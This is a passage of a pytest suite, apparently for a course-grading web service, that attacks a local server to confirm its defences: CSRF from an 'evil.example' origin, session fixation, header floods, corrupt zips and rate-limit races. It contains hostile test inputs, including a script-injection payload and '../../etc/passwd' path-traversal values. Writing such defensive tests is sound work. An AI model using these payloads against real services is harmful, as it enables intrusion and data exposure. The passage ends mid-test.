"""Our own attack suite against a real `grade serve` (issue 27), each attack beside its honest twin.

Classes: acting in another's name (cross-site forms, login CSRF, the page cookie on the JSON API,
framing), sessions (logout, rotation, cookie flags, headers), 500s from input (corrupt members,
out-of-range ids, odd form values, odd requests), limits (atomic rate limit, topics, stored size,
quota, file modes, CSV formulas), tokens (rotate, revoke, re-add) and a light denial of service
(slow bodies). Everything runs over real HTTP on 127.0.0.1 (httpx with explicit headers and
cookies, raw sockets, and Debian's Chromium); a subset runs again on PostgreSQL + Redis.
The defences are listed beside each test in docs/service.md, "Threats and what holds".
"""

from __future__ import annotations

import base64
import concurrent.futures
import csv
import http.server
import io
import json
import os
import re
import socket
import subprocess
import threading
import time
import zipfile
from collections import Counter

import httpx
import pytest
from sqlalchemy import func, select, update

from helpers.service import (
    GRADE,
    LOGIN_CSRF,
    SESSION,
    SOLUTIONS,
    PageSession,
    api,
    csrf_field,
    drop_database,
    free_port,
    headless_chromium,
    log_in,
    new_course,
    plain,
    post_zip,
    postgres_redis_env,
    serve_log,
    set_cookie,
    zip_of,
)
from jaxlings.service import db

PRNG = (SOLUTIONS / "prng.py").read_bytes()
AT = (SOLUTIONS / "at_updates.py").read_bytes()
EVIL = "http://evil.example"
BIG_IDS = ("0", "-1", "99999999999999999999", "2147483648")
DONE_RESULT = json.dumps(
    {"score": 1, "max_score": 3, "tests": [], "extra_data": {"topics": {"prng": {"score": 1, "max_score": 3}}}}
)


# ---------------------------------------------------------------- servers


@pytest.fixture(scope="module")
def live(tmp_path_factory):
    """One SQLite server for the module (no worker: what is checked is what is stored and answered)."""
    c = new_course(
        tmp_path_factory.mktemp("attacks"),
        JAXLINGS_RATE_LIMIT="10",
        JAXLINGS_MAX_UPLOAD_BYTES="200000",
        JAXLINGS_MAX_UNPACKED_BYTES="2000000",
    )
    c.serve()
    yield c
    c.stop()
    print(f"--- serve.log (tail) ---\n{c.log('serve.log')}")


@pytest.fixture(scope="module")
def pg(tmp_path_factory):
    """The same on PostgreSQL + Redis (a database of its own, dropped afterwards)."""
    env = postgres_redis_env()
    c = new_course(tmp_path_factory.mktemp("attacks-pg"), JAXLINGS_RATE_LIMIT="10", **env)
    try:
        c.serve()
        yield c
    finally:
        c.stop()
        print(f"--- serve.log (tail) ---\n{c.log('serve.log')}")
        drop_database(env["JAXLINGS_DATABASE_URL"])


@pytest.fixture(scope="module", params=["live", "pg"], ids=["sqlite", "postgres"])
def server(request):
    """Each of the two servers in turn, for the attacks run on both databases."""
    return request.getfixturevalue(request.param)


# ---------------------------------------------------------------- a browser, by hand


def page_submit(course, who: PageSession, data: bytes, *, origin: str | None, csrf: str | None) -> httpx.Response:
    """The upload form of /me, posted with these Origin and csrf values (None: left out)."""
    with plain(course) as client:
        return client.post(
            "/me/submit",
            headers=who.headers(origin),
            files={"file": ("mine.zip", data, "application/zip")},
            data={} if csrf is None else {"csrf": csrf},
        )


def page_regrade(course, who: PageSession, what: str | None, *, origin: str | None, csrf: str | None) -> httpx.Response:
    form = {k: v for k, v in (("what", what), ("csrf", csrf)) if v is not None}
    with plain(course) as client:
        return client.post("/gradebook/regrade", headers=who.headers(origin), data=form)


# ---------------------------------------------------------------- the database, read directly


def count(course, model, **where) -> int:
    with db.sessions(course.settings().db_url)() as session:
        query = select(func.count()).select_from(model)
        for name, value in where.items():
            query = query.where(getattr(model, name) == value)
        return session.scalar(query)


def submissions_of(course, login: str) -> int:
    with db.sessions(course.settings().db_url)() as session:
        return session.scalar(
            select(func.count()).select_from(db.Submission).join(db.Student).where(db.Student.login == login)
        )


def mark_done(course, submission_id: int) -> None:
    """Set a stored submission to graded (no worker runs here), so a regrade would visibly change it."""
    with db.sessions(course.settings().db_url).begin() as session:
        session.execute(
            update(db.Submission)
            .where(db.Submission.id == submission_id)
            .values(status=db.DONE, score=1.0, max_score=3.0, result_json=DONE_RESULT, attempts=1, sent_at=db.utcnow())
        )


def kept_files(course) -> set[str]:
    """The upload files in the data folder."""
    folder = course.settings().data_dir / "uploads"
    return {p.name for p in folder.glob("*.zip")} if folder.exists() else set()


def status_of(course, submission_id: int) -> str:
    with db.sessions(course.settings().db_url)() as session:
        return session.get(db.Submission, submission_id).status


def a_submission(course, login: str, note: str = "") -> tuple[str, int]:
    """A student's token and one stored submission of theirs."""
    token = course.token(login)
    with api(course, token) as client:
        r = post_zip(client, zip_of({"prng.py": PRNG + f"\n# {login} {note}\n".encode()}))
    assert r.status_code == 202, r.text
    return token, r.json()["id"]


def message_problem(response: httpx.Response) -> str | None:
    """What is wrong with a refusal's message (None: nothing). JSON answers carry it as one short
    line in `detail`; pages render it in a page."""
    if not response.headers.get("content-type", "").startswith("application/json"):
        return None if response.text.strip() else "an empty refusal"
    detail = response.json().get("detail")
    if not isinstance(detail, str) or not detail:
        return f"detail is not a message: {response.text[:200]}"
    if "\n" in detail or len(detail) > 1000:
        return f"detail is {detail.count(chr(10)) + 1} lines, {len(detail)} characters: {detail[:120]}..."
    return None


def one_line(response: httpx.Response) -> str:
    """The refusal's message, which must be one short line."""
    problem = message_problem(response)
    assert problem is None, problem
    return (
        response.json()["detail"]
        if response.headers.get("content-type", "").startswith("application/json")
        else response.text
    )


# ================================================================= acting in another's name

FOREIGN_FORMS = {
    "another origin with the right csrf": (EVIL, "own"),
    "another origin, no csrf": (EVIL, None),
    "Origin: null (a sandboxed frame)": ("null", "own"),
    "same origin, no csrf": ("self", None),
    "same origin, another session's csrf": ("self", "other"),
    "same origin, empty csrf": ("self", ""),
}


def _form_args(course, case: str, own: PageSession, other: PageSession) -> dict:
    origin, csrf = FOREIGN_FORMS[case]
    return {
        "origin": course.url if origin == "self" else origin,
        "csrf": {"own": own.csrf, "other": other.csrf}.get(csrf, csrf),
    }


@pytest.mark.parametrize("case", list(FOREIGN_FORMS))
def test_a_foreign_upload_form_is_refused_and_stores_nothing(server, case):
    """A page elsewhere posting the upload form with a logged-in student's cookie plants nothing."""
    login = f"victim-{slug(case)}-{server.port}"
    victim = log_in(server, server.token(login))
    other = log_in(server, server.token(f"{login}-other"))
    before, files = count(server, db.Upload), kept_files(server)
    r = page_submit(
        server, victim, zip_of({"prng.py": PRNG + b"\n# planted\n"}), **_form_args(server, case, victim, other)
    )
    assert r.status_code == 403, (r.status_code, r.text[:500])
    assert submissions_of(server, login) == 0 and count(server, db.Upload) == before and kept_files(server) == files
    honest = page_submit(server, victim, zip_of({"prng.py": PRNG + b"\n# mine\n"}), origin=server.url, csrf=victim.csrf)
    assert honest.status_code == 303 and "/submissions/" in honest.headers["location"], honest.text[:500]
    assert submissions_of(server, login) == 1


@pytest.mark.parametrize("case", list(FOREIGN_FORMS))
def test_a_foreign_regrade_form_is_refused_and_queues_nothing(server, case):
    """A page elsewhere posting the gradebook's regrade form with an instructor's cookie changes nothing."""
    _, sub = a_submission(server, f"regraded-{slug(case)}")
    mark_done(server, sub)
    prof = log_in(server, server.instructor())
    other = log_in(server, server.instructor())
    r = page_regrade(server, prof, "all", **_form_args(server, case, prof, other))
    assert r.status_code == 403, (r.status_code, r.text[:500])
    assert status_of(server, sub) == "done"
    honest = page_regrade(server, prof, str(sub), origin=server.url, csrf=prof.csrf)
    assert honest.status_code == 200 and 'id="notice"' in honest.text, honest.text[:500]
    assert status_of(server, sub) == "queued"


def test_a_form_without_origin_but_with_the_csrf_token_is_honest(live):
    """Clients that send no Origin (some do) pass on the CSRF token alone."""
    victim = log_in(live, live.token("no-origin"))
    r = page_submit(live, victim, zip_of({"prng.py": PRNG + b"\n# no origin\n"}), origin=None, csrf=victim.csrf)
    assert r.status_code == 303, r.text[:500]


LOGIN_CSRF_CASES = {
    # name: (Origin, csrf field, login csrf cookie); "attacker" = the attacker's own pair, "victim" = the victim's
    "from another origin with the attacker's matching pair": (EVIL, "attacker", "attacker"),
    "from another origin, the victim's cookie": (EVIL, "attacker", "victim"),
    "no Origin, the attacker's field, the victim's cookie": (None, "attacker", "victim"),
    "no Origin, the attacker's field, no cookie": (None, "attacker", None),
    "no Origin, no field, the victim's cookie": (None, None, "victim"),
    "same origin, no field, no cookie": ("self", None, None),
}


def _login_pair(course) -> str:
    with plain(course) as client:
        form = client.get("/login")
        assert form.cookies.get(LOGIN_CSRF) == csrf_field(form.text)
        return form.cookies[LOGIN_CSRF]


@pytest.mark.parametrize("case", list(LOGIN_CSRF_CASES))
def test_login_csrf_is_refused_and_sets_no_session(live, case):
    """A page elsewhere logging the victim in as the attacker (their next upload would be the attacker's)."""
    attacker_token = live.token("attacker")
    pairs = {"attacker": _login_pair(live), "victim": _login_pair(live), None: None}
    origin, field, cookie = LOGIN_CSRF_CASES[case]
    headers = {"Origin": live.url if origin == "self" else origin} if origin else {}
    if cookie:
        headers["Cookie"] = f"{LOGIN_CSRF}={pairs[cookie]}"
    form = {"token": attacker_token, **({"csrf": pairs[field]} if field else {})}
    with plain(live) as client:
        r = client.post("/login", data=form, headers=headers)
    assert r.status_code == 403, (r.status_code, r.text[:500])
    assert set_cookie(r, SESSION) is None or "max-age=0" in set_cookie(r, SESSION).lower()
    with plain(live) as client:  # the honest twin: the same token, with the pair of the same browser
        mine = _login_pair(live)
        ok = client.post(
            "/login",
            data={"token": attacker_token, "csrf": mine},
            headers={"Origin": live.url, "Cookie": f"{LOGIN_CSRF}={mine}"},
        )
    assert ok.status_code == 303 and set_cookie(ok, SESSION), ok.text[:500]


def test_the_json_api_ignores_the_page_cookie(server):
    """The page's cookie opens no API route (the old cookie was the token itself); the bearer does."""
    token, sub = a_submission(server, f"cookie-{server.port}")
    page = log_in(server, token)
    prof_token = server.instructor()
    prof = log_in(server, prof_token)
    mark_done(server, sub)
    with plain(server) as client:
        for cookie in (f"{SESSION}={page.sid}", f"jaxlings_token={token}"):
            for method, path in (("GET", "/api/me"), ("GET", "/api/submissions"), ("GET", f"/api/submissions/{sub}")):
                r = client.request(method, path, headers={"Cookie": cookie, "Origin": server.url})
                assert r.status_code == 401, (cookie[:20], path, r.status_code)
            r = client.post(
                "/api/submissions",
                content=zip_of({"prng.py": PRNG + b"\n# via cookie\n"}),
                headers={"Cookie": cookie, "Content-Type": "application/zip"},
            )
            assert r.status_code == 401, r.text
        for cookie in (f"{SESSION}={prof.sid}", f"jaxlings_token={prof_token}"):
            for path in ("/api/regrade?all=true", f"/api/submissions/{sub}/regrade"):
                assert client.post(path, headers={"Cookie": cookie}).status_code == 401
            assert client.get("/api/gradebook.csv", headers={"Cookie": cookie}).status_code == 401
    assert status_of(server, sub) == "done" and submissions_of(server, f"cookie-{server.port}") == 1
    with api(server, token) as student:
        assert student.get("/api/me").json()["login"] == f"cookie-{server.port}"
        assert student.get(f"/api/submissions/{sub}").status_code == 200
    with api(server, prof_token) as teacher:
        assert teacher.get("/api/gradebook.csv").status_code == 200


# ================================================================= sessions


def test_logout_ends_the_session_on_the_server(server):
    victim = log_in(server, server.token(f"leaver-{server.port}"))
    with plain(server) as client:
        assert client.get("/me", headers=victim.headers(None)).status_code == 200
        refused = client.post("/logout", headers=victim.headers(EVIL), data={"csrf": victim.csrf})
        assert refused.status_code == 403  # a page elsewhere cannot log you out
        assert client.get("/me", headers=victim.headers(None)).status_code == 200
        out = client.post("/logout", headers=victim.headers(server.url), data={"csrf": victim.csrf})
        assert out.status_code == 303
        again = client.get("/me", headers=victim.headers(None))  # the old cookie, replayed
    assert again.status_code in (302, 303, 401, 403) and victim.csrf not in again.text, again.status_code
    assert again.status_code >= 400 or again.headers["location"].endswith("/login")


def test_each_login_gets_a_new_session_id_and_a_fixed_one_is_not_adopted(live):
    token = live.token("rotating")
    first, second = log_in(live, token), log_in(live, token)
    assert first.sid != second.sid and first.csrf != second.csrf
    assert token not in (first.sid, second.sid)
    planted = "attacker-chosen-session-id"
    with plain(live) as client:
        form = client.get("/login")
        r = client.post(
            "/login",
            data={"token": token, "csrf": csrf_field(form.text)},
            headers={"Origin": live.url, "Cookie": f"{SESSION}={planted}; {LOGIN_CSRF}={form.cookies[LOGIN_CSRF]}"},
        )
    assert r.status_code == 303 and r.cookies.get(SESSION) not in (None, planted)
    with plain(live) as client:
        assert client.get("/me", headers={"Cookie": f"{SESSION}={planted}"}).status_code != 200


def _session_cookie_flags(course, origin: str) -> str:
    """The Set-Cookie header of a successful login."""
    with plain(course) as client:
        form = client.get("/login")
        pair = form.cookies.get(LOGIN_CSRF) or re.search(f"{LOGIN_CSRF}=([^;]+)", set_cookie(form, LOGIN_CSRF)).group(1)
        r = client.post(
            "/login",
            data={"token": course.token("flags"), "csrf": pair},
            headers={"Origin": origin, "Cookie": f"{LOGIN_CSRF}={pair}"},
        )
    assert r.status_code == 303, r.text[:500]
    return set_cookie(r, SESSION).lower()


def test_session_cookie_is_httponly_strict_and_secure_behind_https(live, tmp_path):
    flags = _session_cookie_flags(live, live.url)
    assert "httponly" in flags and "samesite=strict" in flags and "secure" not in flags
    https = new_course(tmp_path / "https", JAXLINGS_PUBLIC_URL="https://grader.example")
    try:
        https.serve()
        flags = _session_cookie_flags(https, "https://grader.example")
        assert "httponly" in flags and "samesite=strict" in flags and "; secure" in flags
        with plain(https) as client:  # behind https, the login form's cookie is Secure too
            assert "; secure" in set_cookie(client.get("/login"), LOGIN_CSRF).lower()
    finally:
        https.stop()


@pytest.mark.slow
def test_a_page_session_expires(tmp_path):
    """A stolen or forgotten cookie stops working after `session_hours`, on the server's clock."""
    course = new_course(tmp_path / "expiry", JAXLINGS_SESSION_HOURS="0.003")  # 10.8 s
    try:
        course.serve()
        page = log_in(course, course.token("forgetful"))
        logged_in = time.monotonic()
        with plain(course) as client:
            assert client.get("/me", headers=page.headers(None)).status_code == 200  # well within 10.8 s
            time.sleep(max(0.0, logged_in + 12 - time.monotonic()))
            late = client.get("/me", headers=page.headers(None))
        assert late.status_code != 200 and page.csrf not in late.text, late.status_code
    finally:
        course.stop()


def _assert_security_headers(r: httpx.Response, page: bool) -> None:
    h = r.headers
    where = f"{r.request.method} {r.request.url.path} ({r.status_code})"
    assert h.get("x-content-type-options") == "nosniff", where
    assert h.get("x-frame-options", "").upper() == "DENY", where
    assert h.get("referrer-policy") == "same-origin", where
    assert "no-store" in h.get("cache-control", ""), where
    if page:
        assert "frame-ancestors 'none'" in h.get("content-security-policy", ""), where


def test_security_headers_on_pages_api_and_refusals(live):
    token, sub = a_submission(live, "headers")
    mark_done(live, sub)
    student = log_in(live, token)
    prof_token = live.instructor()
    prof = log_in(live, prof_token)
    with plain(live) as client:
        for path in ("/login", "/nope"):
            _assert_security_headers(client.get(path), page=True)
        for path in ("/me", f"/submissions/{sub}", f"/submissions/{sub}/results.json"):
            _assert_security_headers(client.get(path, headers=student.headers(None)), page=True)
        for path in ("/gradebook", "/gradebook.csv"):
            _assert_security_headers(client.get(path, headers=prof.headers(None)), page=True)
        for path in ("/api/health", "/api/me", "/api/submissions/1"):
            _assert_security_headers(client.get(path), page=False)
    with api(live, token) as s:
        for path in (
            "/api/me",
            "/api/submissions",
            f"/api/submissions/{sub}",
            f"/api/submissions/{sub}/results.json",
            "/api/submissions/99999",
        ):
            _assert_security_headers(s.get(path), page=False)
    with api(live, prof_token) as t:
        _assert_security_headers(t.get("/api/gradebook.csv"), page=False)
        answer = t.get("/api/gradebook.csv", headers={"Origin": EVIL})  # no CORS: another site reads nothing
        assert not any(h.startswith("access-control-") for h in answer.headers), answer.headers


def test_no_text_from_the_url_is_rendered(live):
    payload = "<script>alert('xss-9f3c')</script>injected-words-7d1e"
    with plain(live) as client:
        for path in ("/login", "/"):
            r = client.get(path, params={"error": payload}, follow_redirects=True)
            assert "xss-9f3c" not in r.text and "injected-words-7d1e" not in r.text and "<script>" not in r.text
        wrong = client.get("/login")  # the twin: the server's own message is still shown
        r = client.post(
            "/login",
            data={"token": "jxl_not-a-token", "csrf": csrf_field(wrong.text)},
            headers={"Origin": live.url, "Cookie": f"{LOGIN_CSRF}={wrong.cookies[LOGIN_CSRF]}"},
        )
    assert "not known" in r.text and r.status_code in (200, 401)
    student = log_in(live, live.token("url-text"))
    with plain(live) as client:
        r = client.get("/me", params={"error": payload}, headers=student.headers(None))
    assert r.status_code == 200 and "injected-words-7d1e" not in r.text


# ================================================================= 500s from input


def _member_offset(data: bytes, name: str) -> tuple[int, int]:
    """(start, size) of a member's compressed bytes inside a zip."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    header = data[info.header_offset : info.header_offset + 30]
    start = info.header_offset + 30 + int.from_bytes(header[26:28], "little") + int.from_bytes(header[28:30], "little")
    return start, info.compress_size


def corrupt_member(method: int, skip: int = 0, end: int | None = None, byte: int | None = None) -> bytes:
    """A zip whose prng.py member's compressed bytes [skip, end) are garbage (the zip's headers intact)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("prng.py", PRNG)
    data = bytearray(buffer.getvalue())
    start, size = _member_offset(bytes(data), "prng.py")
    for i in range(start + skip, start + (size if end is None else end)):
        data[i] = byte if byte is not None else 0xFF if (i - start) % 3 else 0x07
    return bytes(data)


def zip_with(method: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("prng.py", PRNG + f"\n# method {method}\n".encode())
    return buffer.getvalue()


CORRUPT = {
    "deflate": lambda: corrupt_member(zipfile.ZIP_DEFLATED),
    "lzma": lambda: corrupt_member(zipfile.ZIP_LZMA, skip=9),  # past LZMA's properties: a bad stream
    "lzma properties": lambda: corrupt_member(zipfile.ZIP_LZMA, skip=4, end=5, byte=0xFF),  # lc/lp/pb out of range
    "lzma properties size": lambda: corrupt_member(zipfile.ZIP_LZMA, skip=2, end=4, byte=0xFF),
    "bzip2": lambda: corrupt_member(zipfile.ZIP_BZIP2, skip=4),
    "truncated": lambda: zip_with(zipfile.ZIP_DEFLATED)[:-40],
}


@pytest.mark.parametrize("kind", list(CORRUPT))
def test_corrupt_members_are_a_400_with_a_message(server, kind):
    token = server.token(f"corrupt-{kind}".replace(" ", "-"))
    before = count(server, db.Submission)
    with api(server, token) as client:
        r = post_zip(client, CORRUPT[kind]())
        assert r.status_code == 400, (r.status_code, r.text[:500])
        one_line(r)
        assert count(server, db.Submission) == before
        method = zipfile.ZIP_LZMA if "lzma" in kind else zipfile.ZIP_BZIP2 if kind == "bzip2" else zipfile.ZIP_DEFLATED
        assert post_zip(client, zip_with(method)).status_code == 202  # the same, intact


def _id_routes(course, student: PageSession, student_token: str, prof_token: str):
    """(name, function of an id -> response) for every route that takes a submission id."""
    s = api(course, student_token)
    t = api(course, prof_token)
    p = plain(course)
    return [
        ("GET /api/submissions/{id}", lambda i: s.get(f"/api/submissions/{i}")),
        ("GET /api/submissions/{id}/results.json", lambda i: s.get(f"/api/submissions/{i}/results.json")),
        ("POST /api/submissions/{id}/regrade", lambda i: t.post(f"/api/submissions/{i}/regrade")),
        ("GET /submissions/{id}", lambda i: p.get(f"/submissions/{i}", headers=student.headers(None))),
        (
            "GET /submissions/{id}/results.json",
            lambda i: p.get(f"/submissions/{i}/results.json", headers=student.headers(None)),
        ),
    ]


def test_ids_out_of_range_are_4xx_on_every_id_route(server):
    token, sub = a_submission(server, f"ids-{server.port}")
    mark_done(server, sub)
    student = log_in(server, token)
    wrong = []
    for name, call in _id_routes(server, student, token, server.instructor()):
        for i in (*BIG_IDS, "abc", "1.5", "1e3", "%C2%B2"):
            r = call(i)
            if not 400 <= r.status_code < 500:
                wrong.append(f"{name} id={i}: {r.status_code}")
            elif message_problem(r):
                wrong.append(f"{name} id={i}: {message_problem(r)}")
        ok = call(sub)
        if ok.status_code != 200:
            wrong.append(f"{name} id={sub} (the real one): {ok.status_code}")
    assert not wrong, "\n".join(wrong)


ODD_REGRADES = [
    "²",
    "1e99",
    "topic:",
    "topic:nope",
    "topic:" + "x" * 5000,
    "9" * 5000,
    "x" * 100_000,
    "0",
    "-1",
    "99999999999999999999",
    "2147483648",
    "\x00",
    "all ",
    " 1",
    None,
]


def test_odd_regrade_form_values_are_4xx(server):
    _, sub = a_submission(server, f"odd-regrade-{server.port}")
    mark_done(server, sub)
    prof = log_in(server, server.instructor())
    wrong = []
    for what in ODD_REGRADES:
        r = page_regrade(server, prof, what, origin=server.url, csrf=prof.csrf)
        if not 400 <= r.status_code < 500:
            wrong.append(f"what={what!r:.40}: {r.status_code}")
    assert not wrong, "\n".join(wrong)
    assert status_of(server, sub) == "done"  # none of them regraded anything
    for what in ("topic:prng", "all"):  # the honest bulk values: a confirmation first, nothing queued yet
        asked = page_regrade(server, prof, what, origin=server.url, csrf=prof.csrf)
        assert asked.status_code == 200 and 'id="confirm"' in asked.text, asked.text[:500]
    assert status_of(server, sub) == "done"
    done = page_regrade(server, prof, str(sub), origin=server.url, csrf=prof.csrf)  # one submission: at once
    assert done.status_code == 200 and 'id="notice"' in done.text, done.text[:500]
    assert status_of(server, sub) == "queued"


def odd_requests(token: str, prof: str) -> list[tuple[str, str, dict]]:
    """(method, url, httpx keyword arguments) of requests that must each get a 4xx with a message."""
    bearer = {"Authorization": f"Bearer {token}"}
    zipped = zip_of({"prng.py": PRNG + b"\n# odd\n"})

    def upload(**params) -> tuple[str, str, dict]:
        return (
            "POST",
            "/api/submissions",
            {"params": params, "content": zipped, "headers": {**bearer, "Content-Type": "application/zip"}},
        )

    return [
        ("GET", "/api/submissions", {"params": {"limit": "abc"}, "headers": bearer}),
        ("GET", "/api/submissions", {"params": {"limit": "0"}, "headers": bearer}),
        ("GET", "/api/submissions", {"params": {"limit": "99999999999999999999"}, "headers": bearer}),
        (
            "GET",
            "/api/submissions",
            {"params": {"student": "x" * 5000}, "headers": {"Authorization": f"Bearer {prof}"}},
        ),
        ("POST", "/api/regrade", {"params": {"all": "maybe"}, "headers": {"Authorization": f"Bearer {prof}"}}),
        ("POST", "/api/regrade", {"params": {"topic": ""}, "headers": {"Authorization": f"Bearer {prof}"}}),
        ("POST", "/api/regrade", {"params": {"topic": "../../etc"}, "headers": {"Authorization": f"Bearer {prof}"}}),
        upload(topics=""),
        upload(topics="../../etc/passwd"),
        upload(topics="prng,at_updates"),
        upload(topics="²"),
        upload(topics="\x00"),
        upload(topics="x" * 3000),
        upload(topics=[f"t{i}" for i in range(100)]),
        upload(topics="at_updates"),  # named, not in the zip
        ("POST", "/api/submissions", {"content": b"", "headers": {**bearer, "Content-Type": "application/zip"}}),
        ("POST", "/api/submissions", {"headers": bearer}),
        (
            "POST",
            "/api/submissions",
            {"content": b'{"a": 1}', "headers": {**bearer, "Content-Type": "application/json"}},
        ),
        (
            "POST",
            "/api/submissions",
            {"content": b"--x\r\n\r\n", "headers": {**bearer, "Content-Type": "multipart/form-data; boundary=x"}},
        ),
        (
            "POST",
            "/api/submissions",
            {"content": b"a=b", "headers": {**bearer, "Content-Type": "application/x-www-form-urlencoded"}},
        ),
        (
            "POST",
            "/api/submissions",
            {"content": os.urandom(3000), "headers": {**bearer, "Content-Type": "application/zip"}},
        ),
        (
            "POST",
            "/api/submissions",
            {"content": b"PK\x03\x04" + b"\x00" * 100, "headers": {**bearer, "Content-Type": "application/zip"}},
        ),
        ("GET", "/api/me", {"headers": {"Authorization": "Bearer"}}),
        ("GET", "/api/me", {"headers": {"Authorization": "Bearer " + "x" * 8000}}),
        ("GET", "/api/me", {"headers": {"Authorization": "Basic dXNlcjpwYXNz"}}),
        ("GET", "/api/me", {"headers": {"Authorization": b"Bearer jxl_\xe9\xe8"}}),
        ("GET", "/api/nope", {}),
        ("DELETE", "/api/submissions/1", {"headers": bearer}),
        ("PUT", "/api/health", {}),
        ("GET", "/submissions/abc", {}),
        (
            "POST",
            "/login",
            {"content": b"\xff\xfe garbage", "headers": {"Content-Type": "application/x-www-form-urlencoded"}},
        ),
        ("POST", "/login", {"content": b"--x\r\n", "headers": {"Content-Type": "multipart/form-data; boundary=x"}}),
        ("POST", "/login", {"data": {"token": "x" * 100_000, "csrf": "y"}}),
    ]


ACCESS = re.compile(r'"[A-Z]+ \S* HTTP/1\.[01]" \d{3}')  # uvicorn's access line, one per request anyway


def test_odd_requests_are_4xx_with_one_log_line_each(server):
    token = server.token(f"odd-{server.port}")
    prof = server.instructor()
    before = len(serve_log(server))
    wrong, answers = [], 0
    with plain(server) as client:
        for method, url, kwargs in odd_requests(token, prof):
            r = client.request(method, url, **kwargs)
            answers += 1
            if not 400 <= r.status_code < 500:
                wrong.append(f"{method} {url} {str(kwargs)[:80]}: {r.status_code} {r.text[:200]}")
            elif message_problem(r):
                wrong.append(f"{method} {url} {str(kwargs)[:80]}: {message_problem(r)}")
        assert (
            client.get(
                "/api/submissions",
                params={"foo": "bar", "limit": "5"},  # unknown params: ignored
                headers={"Authorization": f"Bearer {token}"},
            ).status_code
            == 200
        )
    time.sleep(0.5)
    added = serve_log(server)[before:]
    assert "Traceback" not in added, added[-3000:]
    lines = [line for line in added.splitlines() if line.strip() and not ACCESS.search(line)]
    assert len(lines) <= answers, f"{len(lines)} log lines for {answers} refusals:\n" + "\n".join(lines[-40:])
    assert not wrong, "\n".join(wrong)


def raw_request(port: int, head: bytes, timeout: float = 20) -> int | None:
    """Send bytes on a fresh connection; the status of the answer (None: closed without one)."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        try:
            s.sendall(head)
        except (BrokenPipeError, ConnectionResetError):
            pass
        reply = b""
        try:
            while b"\r\n" not in reply:
                chunk = s.recv(4096)
                if not chunk:
                    break
                reply += chunk
        except (TimeoutError, ConnectionResetError):
            pass
    match = re.match(rb"HTTP/1\.[01] (\d{3})", reply)
    return int(match.group(1)) if match else None


def test_huge_headers_are_refused_and_the_server_lives(live):
    def get(extra: bytes) -> int | None:
        return raw_request(
            live.port, b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\n" + extra + b"Connection: close\r\n\r\n"
        )

    assert get(b"X-Pad: " + b"a" * 4000 + b"\r\n") == 200  # the honest twin
    hostile = {
        "one 40 KB header": b"X-Pad: " + b"a" * 40_000 + b"\r\n",
        "400 headers, 40 KB": b"".join(b"X-Pad-%d: %s\r\n" % (i, b"a" * 90) for i in range(400)),
        "a 200 KB cookie": b"Cookie: c=" + b"a" * 200_000 + b"\r\n",
    }
    answers = {name: get(extra) for name, extra in hostile.items()}
    assert all(status is None or 400 <= status < 500 for status in answers.values()), answers
    assert httpx.get(f"{live.url}/api/health", timeout=10).status_code == 200
    assert "Traceback" not in serve_log(live)


# ================================================================= limits


def test_fifty_simultaneous_submits_accept_exactly_the_rate_limit(server):
    """One student, 50 distinct uploads of one topic at once, rate limit 10: exactly 10 stored."""
    login = f"flood-{server.port}"
    token = server.token(login)
    start = threading.Barrier(50)

    def send(i: int) -> int:
        with api(server, token) as client:
            data = zip_of({"prng.py": PRNG + f"\n# flood {i}\n".encode()})
            start.wait(30)
            return post_zip(client, data).status_code

    with concurrent.futures.ThreadPoolExecutor(50) as pool:
        statuses = Counter(pool.map(send, range(50)))
    assert statuses == Counter({202: 10, 429: 40}), statuses
    assert submissions_of(server, login) == 10
    with api(server, server.token(f"{login}-other")) as other:  # another student is not limited
        assert post_zip(other, zip_of({"prng.py": PRNG + b"\n# other\n"})).status_code == 202


def test_topics_named_must_be_in_the_zip(live):
    with api(live, live.token("topics")) as client:
        r = post_zip(client, zip_of({"prng.py": PRNG}), topics=["prng", "at_updates"])
        assert r.status_code == 400 and "at_updates" in one_line(r)
        ok = post_zip(client, zip_of({"prng.py": PRNG, "at_updates.py": AT}), topics=["at_updates"])
        assert ok.status_code == 202 and ok.json()["topics"] == ["at_updates"]


def lzma_zip(text: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("prng.py", text)
    return buffer.getvalue()


def test_a_small_lzma_upload_is_not_stored_larger_than_the_limit(live):
    """40 KB of random text repeated: LZMA sees the repeats, deflate's 32 KB window does not."""
    block = b"".join(b"# " + base64.b64encode(os.urandom(57)) + b"\n" for _ in range(500))  # ~40 KB
    sent = lzma_zip(block * 20)  # ~800 KB unpacked
    limit = live.settings().max_upload_bytes
    assert len(sent) < limit // 3 and len(block) * 20 > limit
    with api(live, live.token("lzma")) as client:
        r = post_zip(client, sent)
        print(f"lzma upload of {len(sent)} bytes ({len(block) * 20} unpacked): {r.status_code} {r.text[:200]}")
        assert r.status_code in (202, 400, 413), r.text
        if r.status_code != 202:
            one_line(r)
        else:
            digest = r.json()["digest"]
            kept = live.settings().data_dir / "uploads" / f"{digest}.zip"
            with db.sessions(live.settings().db_url)() as session:
                size = session.get(db.Upload, digest).size
            assert size <= limit and (not kept.exists() or kept.stat().st_size <= limit), (size, limit)
        honest = post_zip(client, lzma_zip(PRNG))  # a normal LZMA zip
        assert honest.status_code == 202, honest.text


def test_the_storage_quota_refuses_with_413_and_spares_others(tmp_path):
    course = new_course(tmp_path / "quota", JAXLINGS_QUOTA_BYTES="5000", JAXLINGS_RATE_LIMIT="100")
    try:
        course.serve()
        statuses, accepted = [], []
        with api(course, course.token("hoarder")) as client:
            for i in range(8):
                noise = base64.b64encode(os.urandom(1500)) + f"\n# {i}\n".encode()  # ~2 KB stored each
                r = post_zip(client, zip_of({"prng.py": b"# " + noise}))
                statuses.append(r.status_code)
                if r.status_code == 202:
                    accepted.append(zip_of({"prng.py": b"# " + noise}))
                else:
                    break
            assert statuses[0] == 202 and statuses[-1] == 413, statuses
            assert "quota" in one_line(r).lower(), r.text
            again = post_zip(client, accepted[0])  # a duplicate costs no quota
            assert again.status_code == 202 and again.json()["duplicate"] is True
        with db.sessions(course.settings().db_url)() as session:
            stored = session.scalar(select(func.sum(db.Upload.size)))
        assert stored <= 5000, stored
        with api(course, course.token("neighbour")) as other:
